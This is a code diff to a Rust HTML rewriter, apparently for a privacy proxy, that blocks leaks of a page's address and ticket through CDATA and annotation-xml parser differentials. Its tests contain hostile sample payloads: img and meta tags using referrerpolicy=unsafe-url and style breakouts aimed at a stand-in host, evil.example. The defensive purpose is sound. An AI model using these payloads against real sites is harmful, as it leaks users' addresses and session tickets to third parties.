@@ -51,14 +51,16 @@
 //!     same document to both. Outside reviews leaked the ticket through
 //!     each narrower rule tried first.
 //!
-//! - A CDATA section (SVG, MathML) keeps no `<` (see [`cdata`]): a
-//!   preload scanner reads tags in it that lol_html reads as text.
+//! - A CDATA section holding a `<` ends the page (see [`cdata`]): a
+//!   preload scanner reads tags in it that lol_html reads as text; and an
+//!   `annotation-xml` with two `encoding`s is removed (see
+//!   [`annotation_xml`]).
 //!
 //! Scripts, styles and comments are not HTML elements to lol_html, so
 //! links inside them are never touched; what a page's own scripts do with
 //! `location` is beyond any rewriter (see README, "Security model").
 
-use lol_html::html_content::{ContentType, TextChunk, TextType};
+use lol_html::html_content::{TextChunk, TextType};
 use lol_html::send::{Element, HtmlRewriter, Settings};
 use lol_html::{AsciiCompatibleEncoding, MemorySettings};
 use url::Url;
@@ -151,7 +153,7 @@ type Handler = fn(&Arc<Page>, &mut Element<'_, '_>) -> HandlerResult;
 /// What the rewriter does, by selector, in this order: anything that could
 /// send the page's address elsewhere goes first, and an element itself (an
 /// iframe's src) is judged before it counts as open around what follows.
-const HANDLERS: [(&str, Handler); 11] = [
+const HANDLERS: [(&str, Handler); 12] = [
     ("[ping], [referrerpolicy]", |_, el| {
         el.remove_attribute("ping");
         el.remove_attribute("referrerpolicy");
@@ -181,6 +183,7 @@ const HANDLERS: [(&str, Handler); 11] = [
         page.diverged.store(true, Ordering::Relaxed);
         Ok(())
     }),
+    ("annotation-xml", annotation_xml),
 ];
 
 /// Every selector the rewriter matches, for the benchmark that measures
@@ -211,9 +214,12 @@ pub fn rewriter<'h, O: lol_html::OutputSink + Send>(
             .append_element_content_handler(lol_html::element!(selector, move |el| f(&page, el)));
     }
     let settings = settings
-        // Only SVG and MathML have CDATA sections; a handler for every
-        // text of the page would cost a third more on a link-dense one.
-        .append_element_content_handler(lol_html::text!("svg, math", cdata))
+        // Every text of the page, not only what is inside an <svg> or
+        // <math> element: lol_html reads CDATA sections where it believes
+        // itself in SVG or MathML, which can outlast the element (after a
+        // self-closed `<svg/>`, review 15). This costs about 40 % more on a
+        // link-dense page (many short texts).
+        .append_document_content_handler(lol_html::doc_text!(cdata))
         .with_encoding(encoding)
         .with_adjust_charset_on_meta_tag(true)
         .with_memory_settings(
@@ -224,18 +230,40 @@ pub fn rewriter<'h, O: lol_html::OutputSink + Send>(
     Some(HtmlRewriter::new(settings, sink))
 }
 
-/// A CDATA section (in SVG or MathML) keeps no `<`: each is written as a
-/// character reference between two sections (`a<b` becomes
-/// `a]]>&lt;<![CDATA[b`). The HTML parser builds the same text from
-/// either; but a browser's preload scanner reads `<![CDATA[` as a comment
-/// that ends at the first `>` and fetches the tags it then sees inside, with
-/// the `referrerpolicy` or `<meta name=referrer>` found there, which this
-/// rewriter, reading the section as text, cannot remove (review 14 had
-/// Chromium send the page's address, ticket and all, to another origin).
+/// A CDATA section (wherever lol_html reads one) holding a `<` ends the
+/// page there (fails closed). A browser reads it as text only where it
+/// agrees with lol_html that this is SVG or MathML; its preload scanner
+/// never does (it ends `<![CDATA[` at the first `>` and fetches the tags it
+/// then sees, with their `referrerpolicy` or a `<meta name=referrer>`:
+/// review 14 had Chromium send the page's address, ticket and all, to
+/// another origin), and where lol_html's SVG outlasts the browser's (after
+/// a self-closed `<svg/>`, review 15) the browser's own parser reads the
+/// tags. Writing each `<` as `]]>&lt;<![CDATA[` was tried first: the same
+/// text where both agree, but where the browser reads raw text (a
+/// `<style>` after such an `<svg/>`) it moves the end of that text to a
+/// later `</style>`, perhaps inside what lol_html reads as an attribute.
+/// A section without `<` can hide no tag and no end of raw text.
 fn cdata(text: &mut TextChunk<'_>) -> HandlerResult {
     if text.text_type() == TextType::CDataSection && text.as_str().contains('<') {
-        let split = text.as_str().replace('<', "]]>&lt;<![CDATA[");
-        text.replace(&split, ContentType::Html);
+        return Err("a CDATA section holds a '<' (URL mode ends the page there)".into());
+    }
+    Ok(())
+}
+
+/// An `annotation-xml` with more than one `encoding` is removed, content
+/// and all: a browser reads the first (HTML §13.2.5.1, duplicates are
+/// dropped), lol_html another, and `encoding=text/html` makes it an HTML
+/// integration point, where a `<style>` holds text. Review 15 had such a
+/// `<style>` hide an `<img referrerpolicy=unsafe-url>` that Chromium, in
+/// MathML, fetched as a real element.
+fn annotation_xml(_: &Arc<Page>, el: &mut Element<'_, '_>) -> HandlerResult {
+    let encodings = el
+        .attributes()
+        .iter()
+        .filter(|attr| attr.name() == "encoding")
+        .count();
+    if encodings > 1 {
+        el.remove();
     }
     Ok(())
 }
@@ -344,12 +372,11 @@ pub fn rewrite_chunks(
         }) else {
             return chunks.concat();
         };
-        for chunk in chunks {
-            if r.write(chunk).is_err() {
-                break;
-            }
+        // After an error the rewriter is spent (lol_html panics if it is
+        // used again): the output ends where it stopped.
+        if chunks.iter().all(|chunk| r.write(chunk).is_ok()) {
+            let _ = r.end();
         }
-        let _ = r.end();
     }
     out
 }
@@ -495,36 +522,46 @@ mod tests {
 
     /// A preload scanner ends `<![CDATA[` at the first `>` and reads what
     /// follows as tags (review 14: an `<img referrerpolicy=unsafe-url>`
-    /// there was fetched with the page's address as its referrer). No `<`
-    /// is left inside a section; the parser's text is unchanged.
+    /// there was fetched with the page's address as its referrer); where
+    /// lol_html's SVG outlasts the browser's, so does the parser (review
+    /// 15). A section with a `<` ends the page; one without is kept.
     #[test]
-    fn cdata_sections_keep_no_tag_for_a_preload_scanner() {
-        let cases = [
-            (
-                "<svg><![CDATA[><img referrerpolicy=unsafe-url src=http://evil.example/>]]></svg>",
-                "<svg><![CDATA[>]]>&lt;<![CDATA[img referrerpolicy=unsafe-url src=http://evil.example/>]]></svg>",
-            ),
-            (
-                "<math><![CDATA[><meta name=referrer content=unsafe-url>]]></math>",
-                "<math><![CDATA[>]]>&lt;<![CDATA[meta name=referrer content=unsafe-url>]]></math>",
-            ),
-            (
-                "<svg><g><text><![CDATA[a<b]<c]]></text></g></svg>",
-                "<svg><g><text><![CDATA[a]]>&lt;<![CDATA[b]]]>&lt;<![CDATA[c]]></text></g></svg>",
-            ),
-            (
-                "<svg><script><![CDATA[if (a > b) run();]]></script></svg>",
-                "<svg><script><![CDATA[if (a > b) run();]]></script></svg>",
-            ),
-            // In HTML, `<![CDATA[` opens a comment that ends at the first `>`.
-            (
-                "<p><![CDATA[ x ]]><b>y</b>",
-                "<p><![CDATA[ x ]]><b>y</b>",
-            ),
-        ];
-        for (page, expected) in cases {
-            assert_eq!(all_ways(page), expected, "{page}");
+    fn a_cdata_section_with_a_tag_in_it_ends_the_page() {
+        for page in [
+            "<p>before<svg><![CDATA[><img referrerpolicy=unsafe-url src=http://evil.example/>]]></svg>",
+            "<p>before<math><![CDATA[><meta name=referrer content=unsafe-url>]]></math><img src=http://evil.example/>",
+            "<p>before<svg><g><text><![CDATA[a<b]]></text></g></svg><a href=http://evil.example/>",
+            // lol_html still reads CDATA after a self-closed <svg/> or a
+            // closed parent, where a browser is back in HTML.
+            "<p>before<svg/><![CDATA[><img referrerpolicy=unsafe-url src=http://evil.example/>]]>",
+            "<p>before<div><svg></div><style><![CDATA[</style>]]><b title=\"</style><img src=http://evil.example/>\">",
+        ] {
+            let bytes = page.as_bytes();
+            let singles: Vec<&[u8]> = bytes.chunks(1).collect();
+            for chunks in [vec![bytes], singles, bytes.chunks(7).collect()] {
+                let out = String::from_utf8(rewrite_chunks(&chunks, &origin(), &ticket(), encoding_rs::UTF_8)).unwrap();
+                assert!(out.starts_with("<p>before"), "{page}: {out}");
+                assert!(!out.contains("evil"), "{page}: {out}");
+            }
         }
+        let kept =
+            "<svg><style><![CDATA[.a > .b { fill: red }]]></style></svg><a href=\"/x\">x</a>";
+        assert_eq!(all_ways(kept), kept);
+        // In HTML, `<![CDATA[` opens a comment that ends at the first `>`.
+        let html = "<p><![CDATA[ x ]]><b>y</b>";
+        assert_eq!(all_ways(html), html);
+    }
+
+    /// A browser takes the first of two `encoding`s (not an HTML
+    /// integration point here, so `<img>` inside `<style>` breaks out of
+    /// MathML as a real element); lol_html another (review 15).
+    #[test]
+    fn an_annotation_xml_with_two_encodings_is_removed() {
+        let page = "<math><annotation-xml encoding=x encoding=text/html><style>\
+                    <img referrerpolicy=unsafe-url src=http://evil.example/></style></annotation-xml></math><p>after";
+        assert_eq!(all_ways(page), "<math></math><p>after");
+        let one = "<math><annotation-xml encoding=text/html><b>x</b></annotation-xml></math>";
+        assert_eq!(all_ways(one), one);
     }
 
     #[test]
